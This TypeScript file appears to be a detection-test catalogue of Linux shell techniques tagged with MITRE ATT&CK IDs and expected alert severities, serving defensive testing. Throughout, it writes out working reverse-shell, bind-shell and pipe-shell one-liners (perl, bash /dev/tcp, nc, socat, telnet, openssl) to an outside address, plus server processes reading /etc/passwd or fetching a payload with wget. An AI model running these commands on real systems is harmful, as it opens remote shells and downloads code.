/** Shells that somebody else holds, and shells where none belongs. */
import { bash, called, child, debian, intruder, run, sh, type Technique } from '../technique.ts'

const perlSocket =
  'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));'
const perlShell = `${perlSocket}open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh","-i")`
const perlListener = `use IO::Socket;$l=IO::Socket::INET->new(Listen=>1,LocalAddr=>"127.0.0.1",LocalPort=>5556);
if(!fork){IO::Socket::INET->new("127.0.0.1:5556");sleep 1;exit}
$c=$l->accept;open(STDIN,"<&",$c);open(STDOUT,">&",$c);exec("/bin/sh")`

export const shells: readonly Technique[] = [
  {
    name: 'reverse shell on a socket',
    mitre: 'T1059.004',
    expected: 'high',
    seen: 6,
    variants: [
      {
        name: 'sh',
        args: ['/opt/i', 'socket', 'PORT', '/bin/sh', '-c', 'exit'],
        programs: intruder,
      },
      {
        name: 'stdin alone',
        args: ['/opt/i', 'half', 'PORT', '/bin/ash', '-c', 'exit'],
        programs: intruder,
      },
      {
        name: 'python by name',
        args: ['/opt/i', 'socket', 'PORT', '/usr/bin/python3'],
        programs: { ...intruder, '/usr/bin/python3': 'busybox' },
      },
      run('busybox nc -e', '/bin/nc', '127.0.0.1', 'PORT', '-e', '/bin/sh'),
      sh('dev tcp', 'true "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"; exit'),
      sh(
        'named pipe',
        'rm -f /tmp/f; mkfifo /tmp/f; true | nc 127.0.0.1 PORT </dev/null >/tmp/g; exit',
      ),
      bash(
        'a loop over a redirection',
        'exec 5<>/dev/tcp/203.0.113.9/4444; while read -r line <&5; do $line; done; exit 0',
      ),
      debian('perl', '/usr/bin/perl', '-e', perlShell),
      {
        name: 'perl as a script',
        args: ['/opt/r'],
        programs: { '/opt/r': { text: `#!/usr/bin/perl\n${perlShell}` } },
        debian: true,
      },
      {
        name: 'a shell under another name',
        args: ['/opt/i', 'socket', 'PORT', '/opt/i', 'as', 'sh', '/opt/updater', '-c', 'exit'],
        programs: { ...intruder, '/opt/updater': 'busybox' },
      },
      {
        name: 'php by name',
        args: ['/opt/i', 'socket', 'PORT', '/usr/bin/php8.2'],
        programs: { ...intruder, '/usr/bin/php8.2': 'busybox' },
      },
      called(
        'socat',
        '/usr/bin/socat',
        'OPENSSL:203.0.113.9:443,verify=0',
        'EXEC:/bin/bash,pty,stderr,setsid',
      ),
    ],
  },
  {
    name: 'bind shell',
    mitre: 'T1059.004',
    expected: 'high',
    variants: [
      sh('busybox nc', 'timeout 1 /bin/nc -l -p 5555 -s 127.0.0.1 -e /bin/sh; exit 0'),
      {
        name: 'a program of its own',
        args: ['/opt/i', 'bind', '5557', '/bin/sh', '-c', 'exit'],
        programs: intruder,
      },
      called(
        'socat',
        '/usr/bin/socat',
        'TCP-LISTEN:5555,reuseaddr,fork',
        'EXEC:/bin/bash,pty,stderr',
      ),
      called('ncat', '/usr/bin/ncat', '-lvp', '5555', '--sh-exec', '/bin/bash'),
      debian('perl', '/usr/bin/perl', '-e', perlListener),
      called('netcat', '/bin/nc.traditional', '-lvnp', '5555', '-e', '/bin/bash'),
    ],
  },
  {
    name: 'shell fed through a pipe',
    mitre: 'T1059.004',
    expected: 'high',
    variants: [
      sh(
        'mkfifo',
        'mkfifo /tmp/p; /bin/sh </tmp/p 2>&1 | /bin/nc -w 1 203.0.113.9 4444 >/tmp/p; exit 0',
      ),
      sh(
        'mknod',
        'mknod /tmp/p p; cat /tmp/p | sh 2>&1 | nc -w 1 203.0.113.9 4444 >/tmp/p; exit 0',
      ),
      sh('telnet', 'mkfifo /tmp/p; sh </tmp/p 2>&1 | telnet 203.0.113.9 4444 >/tmp/p; exit 0'),
      bash(
        'openssl',
        'mkfifo /tmp/s; sh -i </tmp/s 2>&1 | timeout 1 openssl s_client -quiet -connect 203.0.113.9:4444 >/tmp/s; exit 0',
      ),
      {
        name: 'from a script',
        args: ['/opt/p.sh'],
        programs: {
          '/opt/p.sh': {
            text: '#!/bin/sh\n/bin/mkfifo /tmp/p\n/bin/sh </tmp/p 2>&1 | /bin/nc -w 1 203.0.113.9 4444 >/tmp/p\n',
          },
        },
      },
      bash(
        'a coprocess',
        `coproc timeout 1 nc 203.0.113.9 4444; sh <&"\${COPROC[0]}" >&"\${COPROC[1]}"; exit 0`,
      ),
    ],
  },
  {
    name: 'terminal made by an interpreter',
    mitre: 'T1059.006',
    expected: 'medium',
    variants: [
      called('python', '/usr/bin/python3.11', '-c', 'import pty; pty.spawn("/bin/bash")'),
      debian('script', '/usr/bin/script', '-qc', '/bin/true', '/dev/null'),
      called('expect', '/usr/bin/expect', '-c', 'spawn sh; interact'),
      called('ruby', '/usr/bin/ruby', '-e', 'require "pty"; PTY.spawn("/bin/sh")'),
      debian('script to a file', '/usr/bin/script', '-q', '-c', '/bin/sh -c exit', '/tmp/x'),
      called(
        'socat',
        '/usr/bin/socat',
        'FILE:/dev/pts/0,raw,echo=0',
        'EXEC:bash,pty,stderr,setsid,sigint,sane',
      ),
    ],
  },
  {
    name: 'shell under a web server',
    mitre: 'T1505.003',
    expected: 'medium',
    seen: 3,
    variants: [
      child('/usr/sbin/nginx', '/bin/sh', '-c', 'exit'),
      child('/usr/sbin/apache2', '/bin/ash', '-c', 'id'),
      child('/usr/sbin/php-fpm', '/bin/sh', '-c', 'ls'),
      child('/usr/sbin/php-fpm8.2', '/bin/sh', '-c', 'cat /etc/passwd'),
      child('/usr/bin/caddy', '/bin/sh', '-c', 'uname -a'),
      child('/usr/sbin/lighttpd', '/bin/sh', '-ic', 'id'),
    ],
  },
  {
    name: 'shell under an application server',
    mitre: 'T1190',
    expected: 'medium',
    variants: [
      child('/opt/java/bin/java', '/bin/sh', '-c', 'id'),
      child('/usr/local/bin/node', '/bin/sh', '-c', 'wget -q http://203.0.113.9/x -O /opt/x'),
      child('/usr/bin/ruby3.1', '/bin/ash', '-c', 'cat /etc/passwd'),
      child('/usr/bin/python3.11', '/bin/sh', '-c', 'whoami; uname -a'),
      child('/usr/bin/dotnet', '/bin/sh', '-c', 'id && hostname'),
      child('/usr/bin/php8.2', '/bin/sh', '-c', 'ls -la /; ifconfig'),
    ],
  },
  {
    name: 'shell under a database',
    mitre: 'T1190',
    expected: 'medium',
    variants: [
      child('/usr/lib/postgresql/15/bin/postgres', '/bin/sh', '-c', 'id'),
      child('/usr/sbin/mysqld', '/bin/sh', '-c', 'whoami'),
      child('/usr/bin/redis-server', '/bin/ash', '-c', 'ls /'),
      child('/usr/bin/mongod', '/bin/sh', '-c', 'uname -a'),
      child('/usr/bin/clickhouse-server', '/bin/sh', '-c', 'cat /etc/passwd'),
      child('/usr/sbin/mariadbd', '/bin/wget', '-q', 'http://203.0.113.9/x'),
    ],
  },
]
